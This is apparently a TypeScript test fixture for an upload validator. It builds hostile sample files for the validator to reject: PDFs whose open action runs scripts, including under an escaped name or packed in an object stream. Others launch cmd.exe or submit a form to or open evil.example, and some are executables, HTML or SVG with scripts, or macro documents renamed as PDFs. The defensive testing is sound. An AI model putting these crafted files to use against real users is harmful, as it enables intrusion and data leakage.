import { docm, EXE, object, objectStream, pdfOf, SCRIPT } from '@rep13/testing/files';

/** A file as somebody sends it. */
export interface Sent {
  readonly what: string;
  readonly name: string;
  readonly bytes: Buffer;
}

const opensWith = (action: string, ...objects: string[]) => pdfOf(`/OpenAction ${action}`, ...objects);

const PDFS: Readonly<Record<string, Buffer>> = {
  'a PDF that runs a script': opensWith(SCRIPT),
  'a PDF that runs a script under an escaped name': opensWith('<< /S /J#61vaScript /JS (1) >>'),
  'a PDF that runs a packed script': pdfOf('/OpenAction 10 0 R', objectStream(SCRIPT)),
  'a PDF that starts a program': opensWith('<< /S /Launch /F (cmd.exe) >>'),
  'a PDF that opens a website': opensWith('<< /S /URI /URI (https://evil.example) >>'),
  'a PDF that opens a website from an object': opensWith('5 0 R', object(5, '<< /S /URI /URI (x) >>')),
  'a PDF that sends its form away': opensWith('<< /S /SubmitForm /F (https://evil.example) >>'),
  'a PDF that opens a file of a network': opensWith('<< /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) >>'),
  'a PDF that goes on to a website': opensWith('<< /S /GoTo /D [3 0 R] /Next << /S /URI /URI (x) >> >>'),
  'a PDF that hides how it opens': opensWith('% nothing\n << /S /URI /URI (x) >>'),
  'a PDF that plays a sound': opensWith('<< /S /Sound /Sound 5 0 R >>'),
  'a PDF that acts when a page is shown': pdfOf('', object(5, '<< /AA << /O 6 0 R >> >>')),
  'a PDF with a file inside': pdfOf('/Names << /EmbeddedFiles 5 0 R >>'),
  'a PDF with a form of scripts': pdfOf('/AcroForm << /XFA 5 0 R >>'),
  'a PDF that is encrypted': pdfOf('', 'trailer\n<< /Encrypt 7 0 R >>\n'),
};

const OTHERS: readonly Sent[] = [
  { what: 'a program', name: 'policy.exe', bytes: EXE },
  { what: 'a program under another name', name: 'policy.pdf', bytes: EXE },
  { what: 'a page with a script', name: 'policy.html', bytes: Buffer.from('<script>alert(1)</script>') },
  { what: 'a page under another name', name: 'a.pdf', bytes: Buffer.from('<html><script>1</script>') },
  { what: 'a picture with a script', name: 'a.svg', bytes: Buffer.from('<svg onload="alert(1)"/>') },
  { what: 'a text with macros', name: 'policy.docx', bytes: docm() },
  { what: 'nothing', name: 'policy.pdf', bytes: Buffer.alloc(0) },
];

/** Nobody may leave one of these with us. */
export const HOSTILE_FILES: readonly Sent[] = [
  ...Object.entries(PDFS).map(([what, bytes]) => ({ what, name: 'policy.pdf', bytes })),
  ...OTHERS,
];

/** Begin as a PDF does and have no page: a signed letter is none of them. */
export const NO_LETTERS: readonly Sent[] = [
  { what: 'a PDF of eight bytes', name: 'letter.pdf', bytes: Buffer.from('%PDF-1.7') },
  { what: 'a PDF of nothing but its beginning', name: 'letter.pdf', bytes: Buffer.from('%PDF-1.7\n%%EOF\n') },
  { what: 'a text', name: 'letter.pdf', bytes: Buffer.from('We sign.') },
  {
    what: 'a PDF without a page',
    name: 'letter.pdf',
    bytes: Buffer.from(
      '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
    ),
  },
];

export const GOOD_FILE: Sent = { what: 'a PDF of one page', name: 'policy.pdf', bytes: pdfOf() };
